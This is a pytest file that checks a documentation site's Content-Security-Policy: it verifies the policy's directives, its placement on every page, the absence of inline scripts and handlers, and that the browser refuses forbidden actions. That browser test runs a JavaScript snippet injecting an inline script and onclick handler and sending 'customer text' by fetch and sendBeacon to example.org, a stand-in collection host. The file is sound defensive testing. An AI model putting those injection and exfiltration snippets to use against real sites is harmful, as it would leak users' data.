""""Nothing leaves the tab", enforced by the browser: every page, redirect stubs included, carries
the site's Content-Security-Policy (mkdocs.yml extra.content_security_policy) before any script
or style; it allows scripts, requests and workers from the site only; no page has an inline
script, an inline event handler or a javascript: link for it to refuse (Material's inline scripts
are the site's files: docs/overrides/partials/javascripts/). In Chromium the policy is live:
what it forbids is refused (an inline script, a request to another host, a form sent, a
plugin), and reported. No page refuses anything in normal use:
tests/test_browser_every_page.py (and every browser test, through conftest.new_page)."""

from __future__ import annotations

import re

import pytest

from conftest import ROOT, wait_for
from macros import pages
from macros.config import read

POLICY = read(ROOT / "mkdocs.yml").content_security_policy
REQUIRED = {
    "default-src": {"'self'"}, "script-src": {"'self'"}, "connect-src": {"'self'"}, "worker-src": {"'self'"},
    "img-src": {"'self'", "data:"}, "style-src": {"'self'", "'unsafe-inline'"}, "object-src": {"'none'"},
    "base-uri": {"'self'"}, "form-action": {"'none'"},
}


def directives(policy: str) -> dict[str, set[str]]:
    return {name: set(values) for name, *values in (part.split() for part in policy.split(";") if part.strip())}


def test_the_policy_allows_only_the_site():
    found = directives(POLICY)
    for name, allowed in REQUIRED.items():
        assert found.get(name) == allowed, f"{name}: {found.get(name)} (want {allowed})"
    assert not [v for values in found.values() for v in values if v.startswith(("'sha", "'nonce", "http", "*"))]


def page_files(html_pages, kb):
    """Every built page, and a redirect stub of each retired id (generated here: the real site
    may have none)."""
    found = {url: path.read_text(encoding="utf-8") for url, path in html_pages.items()}
    renamed = next(iter(kb.causes.values()))
    found["causes/a-retired-id/ (stub)"] = pages.redirects(
        type(kb)(kb.causes, kb.tree, {"a-retired-id": renamed.id}, kb.releases, kb.vocabulary), "https://example.org/", POLICY,
    )["causes/a-retired-id/index.html"]
    return found


def test_every_page_carries_the_policy_before_any_script_or_style(html_pages, kb):
    for url, html in page_files(html_pages, kb).items():
        page = soup_of(html)
        metas = page.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert len(metas) == 1 and metas[0]["content"] == POLICY, url
        first = page.find(["script", "style", "link"])
        assert first is None or first.sourceline > metas[0].sourceline, f"{url}: a script or style before the policy"


def soup_of(html: str):
    from bs4 import BeautifulSoup

    return BeautifulSoup(html, "html.parser")


def test_no_page_has_inline_script_or_event_handler(html_pages, kb):
    """Nothing the policy would have to refuse (or allow by hash)."""
    for url, html in page_files(html_pages, kb).items():
        page = soup_of(html)
        for script in page.find_all("script"):
            assert script.get("src") or script.get("type") == "application/json", f"{url}: inline script {str(script)[:80]}"
            assert not (script.get("src") and script.get_text(strip=True)), url
        handlers = [f"<{el.name} {a}>" for el in page.find_all(True) for a in el.attrs if a.lower().startswith("on")]
        assert not handlers, f"{url}: {handlers[:3]}"
        links = [el.get(a) for el in page.find_all(True) for a in ("href", "src", "action", "formaction")
                 if str(el.get(a) or "").strip().lower().startswith("javascript:")]
        assert not links, f"{url}: {links}"
        assert not page.find("base"), url


def test_materials_moved_scripts_match_the_theme(kb):
    """Each of Material's inline scripts the site runs from a file is Material's own code (the
    installed theme's partial), but for what its page gave inline (the scope), so an update of
    Material that changes them fails here."""
    import material

    theme = ROOT.joinpath(material.__file__).parent / "templates" / "partials" / "javascripts"
    ours = ROOT / "docs" / "assets" / "javascripts" / "material"

    def inline(partial: str) -> list[str]:
        return re.findall(r"<script>(.*?)</script>", (theme / partial).read_text(encoding="utf-8"), re.DOTALL)

    def code(name: str) -> str:
        return re.sub(r"\A/\*.*?\*/\n", "", (ours / name).read_text(encoding="utf-8"), flags=re.DOTALL).strip()

    base = inline("base.html")[0]
    assert code("base.js") == base.replace('new URL("{{ config.extra.scope | d(base_url) }}",location)',
                                           "new URL(document.currentScript.dataset.scope,location)")
    assert code("palette.js") == inline("palette.html")[0]
    tabs, target = inline("content.html")
    assert code("content.js") == f'if("tabsLink"in document.currentScript.dataset){{{tabs}}}\n{target}'


ATTEMPTS = """async () => {
  const tried = {};
  const inline = document.createElement("script");
  inline.textContent = "window.__inlineRan = true";
  document.body.append(inline);
  tried.inlineScriptRan = Boolean(window.__inlineRan);
  tried.handlerRan = false;
  const button = Object.assign(document.createElement("button"), { hidden: true });
  button.setAttribute("onclick", "window.__handlerRan = true");
  document.body.append(button);
  button.click();
  tried.handlerRan = Boolean(window.__handlerRan);
  try { await fetch("https://example.org/collect", { method: "POST", body: "customer text" }); tried.offHost = "sent"; }
  catch { tried.offHost = "refused"; }
  navigator.sendBeacon("https://example.org/beacon", "customer text");
  try { new Worker("data:text/javascript,postMessage(1)"); } catch { /* refused at once, or when it loads */ }
  const plugin = Object.assign(document.createElement("object"), { data: "/assets/favicon.svg", type: "image/svg+xml" });
  document.body.append(plugin);
  await new Promise((resolve) => setTimeout(resolve, 500));
  return tried;
}"""


@pytest.mark.browser
def test_the_browser_refuses_what_the_policy_forbids(new_page, server):
    page = new_page()
    page.goto(server + "agents/")
    tried = page.evaluate(ATTEMPTS)
    wanted = {"script-src-elem", "script-src-attr", "connect-src", "worker-src", "object-src"}
    try:
        wait_for(lambda: wanted <= {line.split(":", 1)[0] for line in page.violations}, f"violations of {wanted}", timeout=30)
        seen = list(page.violations)
    finally:
        page.violations.clear()  # provoked on purpose
    assert {k: tried[k] for k in ("inlineScriptRan", "handlerRan", "offHost")} == \
        {"inlineScriptRan": False, "handlerRan": False, "offHost": "refused"}, tried
    # A beacon is queued (sendBeacon says true) and a worker object made, but neither goes out:
    assert any(line.startswith("connect-src: https://example.org/beacon") for line in seen), seen
    assert any(line.startswith("worker-src: data") for line in seen), seen
